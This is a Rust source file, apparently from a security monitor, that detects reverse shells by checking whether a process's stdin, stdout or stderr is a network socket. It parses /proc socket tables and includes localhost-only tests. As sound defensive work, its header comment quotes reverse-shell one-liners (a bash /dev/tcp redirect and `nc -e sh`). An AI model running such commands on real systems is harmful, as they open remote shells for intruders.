//! Which standard streams of an exec are network sockets, read while the exec is held.
//!
//! Threat: a reverse shell (`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e sh`, a Python one-liner
//! that dup2s a socket) is a shell whose stdin and stdout are a TCP connection. Pipes and UNIX
//! socket pairs (Node.js gives children those) are left out: they are how tools run children.
use std::{fs, net::IpAddr};

use crate::events::StdioSocket;

/// The TCP and UDP sockets among fds 0..=2 of `pid`, with their peers.
pub fn network_sockets(pid: u32) -> Vec<StdioSocket> {
    let inodes: Vec<(u8, u64)> = (0..=2u8)
        .filter_map(|fd| {
            let link = fs::read_link(format!("/proc/{pid}/fd/{fd}")).ok()?;
            Some((fd, socket_inode(link.to_str()?)?))
        })
        .collect();
    if inodes.is_empty() {
        return Vec::new();
    }
    // The tables of the process's own network namespace.
    let tables: Vec<(&str, String)> = ["tcp", "tcp6", "udp", "udp6"]
        .iter()
        .filter_map(|t| Some((*t, fs::read_to_string(format!("/proc/{pid}/net/{t}")).ok()?)))
        .collect();
    inodes
        .into_iter()
        .filter_map(|(fd, inode)| {
            tables.iter().find_map(|(table, text)| {
                let peer = find_peer(text, inode)?;
                Some(StdioSocket {
                    fd,
                    transport: table.trim_end_matches('6').to_string(),
                    peer,
                })
            })
        })
        .collect()
}

/// `socket:[12345]` -> 12345.
fn socket_inode(link: &str) -> Option<u64> {
    link.strip_prefix("socket:[")?
        .strip_suffix(']')?
        .parse()
        .ok()
}

/// The peer of the socket with `inode` in a /proc/net/{tcp,udp}[6] table; empty when it has
/// none.
fn find_peer(table: &str, inode: u64) -> Option<String> {
    table.lines().skip(1).find_map(|line| {
        let cols: Vec<&str> = line.split_whitespace().collect();
        if cols.get(9)?.parse::<u64>().ok()? != inode {
            return None;
        }
        let (ip, port) = parse_endpoint(cols.get(2)?)?;
        Some(match (ip, port) {
            (ip, 0) if ip.is_unspecified() => String::new(),
            (IpAddr::V6(v6), port) => format!("[{v6}]:{port}"),
            (ip, port) => format!("{ip}:{port}"),
        })
    })
}

/// `0100007F:1F90` (the kernel prints each 32-bit word of the address in host order) ->
/// 127.0.0.1, 8080.
fn parse_endpoint(s: &str) -> Option<(IpAddr, u16)> {
    let (addr, port) = s.split_once(':')?;
    let port = u16::from_str_radix(port, 16).ok()?;
    let words: Vec<u32> = (0..addr.len() / 8)
        .map(|i| u32::from_str_radix(addr.get(i * 8..i * 8 + 8)?, 16).ok())
        .collect::<Option<_>>()?;
    let bytes: Vec<u8> = words.iter().flat_map(|w| w.to_ne_bytes()).collect();
    let ip = match bytes.len() {
        4 => IpAddr::from(<[u8; 4]>::try_from(bytes).ok()?),
        16 => IpAddr::from(<[u8; 16]>::try_from(bytes).ok()?),
        _ => return None,
    };
    Some((ip, port))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoints_and_peers_as_the_kernel_prints_them() {
        let table = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
   0: 0100007F:0035 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 111 1 0 100 0 0 10 0\n\
   1: 0100007F:A2C4 0100007F:115C 01 00000000:00000000 00:00000000 00000000  1000        0 222 1 0 20 4 30 10 -1\n";
        assert_eq!(find_peer(table, 222).as_deref(), Some("127.0.0.1:4444"));
        assert_eq!(find_peer(table, 111).as_deref(), Some(""));
        assert_eq!(find_peer(table, 333), None);
        let v6 = "sl local rem\n   0: 00000000000000000000000001000000:1F90 00000000000000000000000001000000:D431 01 0:0 0:0 0 1000 0 444 1\n";
        assert_eq!(find_peer(v6, 444).as_deref(), Some("[::1]:54321"));
        assert_eq!(socket_inode("socket:[42]"), Some(42));
        assert_eq!(socket_inode("pipe:[42]"), None);
        assert_eq!(socket_inode("/dev/pts/0"), None);
    }

    #[test]
    fn a_connected_tcp_socket_as_stdin_is_seen_and_a_pipe_is_not() {
        use std::{
            net::TcpListener,
            os::fd::OwnedFd,
            process::{Command, Stdio},
        };
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
        // A child whose stdin is the socket and whose stdout is a pipe.
        let mut child = Command::new("sleep")
            .arg("5")
            .stdin(Stdio::from(OwnedFd::from(stream)))
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let seen = network_sockets(child.id());
        child.kill().unwrap();
        child.wait().unwrap();
        assert_eq!(seen.len(), 1, "{seen:?}");
        assert_eq!(seen[0].fd, 0);
        assert_eq!(seen[0].transport, "tcp");
        assert_eq!(seen[0].peer, format!("127.0.0.1:{port}"));
    }
}
